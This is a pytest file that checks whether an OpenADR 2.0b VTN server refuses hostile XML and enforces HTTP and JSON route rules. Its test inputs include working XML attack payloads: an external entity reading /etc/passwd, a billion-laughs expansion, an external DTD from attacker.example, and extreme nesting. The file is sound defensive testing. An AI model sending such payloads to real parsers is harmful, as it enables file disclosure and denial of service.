"""The VTN endpoints over real HTTP on loopback: hostile XML (external entities, billion laughs,
an external DTD, a 50 MB body, 10,000 levels of nesting) is refused with a clear error and the
server keeps answering; the HTTP rules (method, content type, length); and the JSON routes
``/dr-events`` of the market side."""
from __future__ import annotations

import http.client
import io
import json
import time
from contextlib import contextmanager

import pytest

from harness.protocols import oadr_codec as oc
from reference_impl.adapters.http_service import serving_in_thread
from reference_impl.adapters.openadr_vtn import MAX_XML_BYTES

POLL = "/OpenADR2/Simple/2.0b/OadrPoll"
EVENT = "/OpenADR2/Simple/2.0b/EiEvent"
NS = ('xmlns:oadr="http://openadr.org/oadr-2.0b/2012/07" '
      'xmlns:ei="http://docs.oasis-open.org/ns/energyinterop/201110"')


@contextmanager
def serving(tmp_path):
    log = io.StringIO()
    with serving_in_thread(tmp_path / "broker.sqlite3", port=0, log_stream=log, test_mode=True) as server:
        server.access_log = log
        yield server


@pytest.fixture
def server(tmp_path):
    with serving(tmp_path) as s:
        yield s


def call(server, method: str, path: str, body=None) -> tuple[int, dict]:
    conn = http.client.HTTPConnection(server.url.removeprefix("http://"), timeout=10)
    try:
        data = None if body is None else json.dumps(body).encode()
        conn.request(method, path, body=data, headers={"Content-Type": "application/json"})
        answer = conn.getresponse()
        assert answer.getheader("Content-Type") == "application/json"
        return answer.status, json.loads(answer.read())
    finally:
        conn.close()


def post_xml(server, path: str, body: bytes, *, headers: dict | None = None) -> tuple[int, str, bytes]:
    conn = http.client.HTTPConnection(server.url.removeprefix("http://"), timeout=10)
    try:
        conn.request("POST", path, body=body, headers={"Content-Type": "application/xml", **(headers or {})})
        answer = conn.getresponse()
        return answer.status, answer.getheader("Content-Type"), answer.read()
    finally:
        conn.close()


def register(server) -> str:
    status, ctype, body = post_xml(server, "/OpenADR2/Simple/2.0b/EiRegisterParty",
                                   oc.to_xml(oc.CreatePartyRegistration("r-1", ven_name="ven-a")))
    assert (status, ctype) == (200, "application/xml")
    return oc.from_xml(body).ven_id


def assert_still_serving(server, ven_id: str) -> None:
    status, ctype, body = post_xml(server, POLL, oc.to_xml(oc.Poll(ven_id)))
    assert (status, ctype) == (200, "application/xml")
    assert oc.from_xml(body).response.code == "200"


XXE = (f'<?xml version="1.0"?><!DOCTYPE oadr:oadrPayload [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
       f'<oadr:oadrPayload {NS}><oadr:oadrSignedObject>&x;</oadr:oadrSignedObject></oadr:oadrPayload>').encode()
LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";" if i > 1 else "&lol;") * 10}">'
                    for i in range(1, 10))
          + ']><lolz>&lol9;</lolz>').encode()
EXTERNAL_DTD = (f'<?xml version="1.0"?><!DOCTYPE oadr:oadrPayload SYSTEM "http://attacker.example/x.dtd">'
                f'<oadr:oadrPayload {NS}/>').encode()
DEEP = b"<a>" * 10_000 + b"</a>" * 10_000


@pytest.mark.parametrize("body, code", [
    (XXE, "xml-doctype-forbidden"), (LAUGHS, "xml-doctype-forbidden"),
    (EXTERNAL_DTD, "xml-doctype-forbidden"), (DEEP, "xml-too-deep"),
    (b"not xml at all", "xml-malformed"),
], ids=["external-entity", "billion-laughs", "external-dtd", "10000-deep", "not-xml"])
def test_hostile_xml_is_refused_and_the_server_keeps_serving(server, body, code):
    ven_id = register(server)
    status, ctype, answer = post_xml(server, EVENT, body)
    assert (status, ctype) == (400, "text/plain; charset=utf-8")
    assert answer.decode().startswith(f"{code}: ")
    assert b"root:" not in answer  # nothing of /etc/passwd
    assert_still_serving(server, ven_id)
    assert f"POST {EVENT} 400" in server.access_log.getvalue()


def test_a_50_mb_body_is_refused_from_its_content_length_without_being_read(server):
    ven_id = register(server)
    conn = http.client.HTTPConnection(server.url.removeprefix("http://"), timeout=10)
    try:
        started = time.perf_counter()
        conn.putrequest("POST", EVENT)
        conn.putheader("Content-Type", "application/xml")
        conn.putheader("Content-Length", str(50 * 1024 * 1024))
        conn.endheaders()
        conn.send(b"<" * 65536)  # the first bytes of the body; the rest never comes
        answer = conn.getresponse()
        assert answer.status == 413 and answer.getheader("Connection") == "close"
        assert answer.read().startswith(b"body-too-large: ")
        assert time.perf_counter() - started < 5
    finally:
        conn.close()
    assert_still_serving(server, ven_id)
    assert 50 * 1024 * 1024 > MAX_XML_BYTES


def test_http_rules_of_the_vtn_endpoints(server):
    ven_id = register(server)
    poll = oc.to_xml(oc.Poll(ven_id))
    assert post_xml(server, POLL, poll, headers={"Content-Type": "application/json"})[0] == 415
    assert post_xml(server, POLL, poll, headers={"Content-Type": "text/xml; charset=utf-8"})[0] == 200
    status, _, body = post_xml(server, "/OpenADR2/Simple/2.0b/EiNothing", poll)
    assert status == 404 and body.startswith(b"unknown-service: ")
    conn = http.client.HTTPConnection(server.url.removeprefix("http://"), timeout=10)
    try:
        conn.request("GET", POLL)
        answer = conn.getresponse()
        assert (answer.status, answer.getheader("Allow")) == (405, "POST")
        answer.read()
        conn.putrequest("POST", POLL)
        conn.putheader("Content-Type", "application/xml")
        conn.putheader("Transfer-Encoding", "chunked")
        conn.endheaders()
        conn.send(b"5\r\n<oadr\r\n0\r\n\r\n")
        assert conn.getresponse().status == 411
    finally:
        conn.close()
    assert_still_serving(server, ven_id)


def test_the_json_routes_create_get_modify_and_cancel_dr_events(server):
    call(server, "POST", "/test/clock", {"now": "2026-06-01T08:00:00+00:00"})
    event = {"event_id": "DR-1", "market_context": "http://market.example/dr",
             "dtstart": "2026-06-01T12:00:00+00:00", "intervals": [{"duration_s": 3600, "value": 2}],
             "ven_names": ["ven-a"]}
    status, created = call(server, "POST", "/dr-events", event)
    assert status == 201 and (created["modification_number"], created["status"]) == (0, "far")
    status, body = call(server, "POST", "/dr-events", event)
    assert (status, body["errors"][0]["code"]) == (422, "duplicate-id")
    status, body = call(server, "POST", "/dr-events", {**event, "event_id": "DR-2", "intervals": [
        {"duration_s": 60, "value": 7}]})
    assert (status, body["errors"][0]["field"]) == (422, "/intervals/0/value")
    status, body = call(server, "POST", "/dr-events/DR-1/events",
                           {"event": "modify", "changes": {"dtstart": "2026-06-01T13:00:00+00:00"}})
    assert status == 200 and body["modification_number"] == 1
    status, body = call(server, "POST", "/dr-events/DR-1/events", {"event": "cancel"})
    assert status == 200 and (body["modification_number"], body["status"]) == (2, "cancelled")
    status, body = call(server, "POST", "/dr-events/DR-1/events", {"event": "cancel"})
    assert (status, body["status"]) == (409, "conflict")
    status, body = call(server, "GET", "/dr-events/DR-1")
    assert status == 200 and body["state"] == "cancelled" and body["opts"] == []
    assert call(server, "GET", "/dr-events/DR-9")[0] == 404
    status, body = call(server, "POST", "/dr-events/DR-1/events", {"event": "postpone"})
    assert (status, body["errors"][0]["field"]) == (422, "/event")
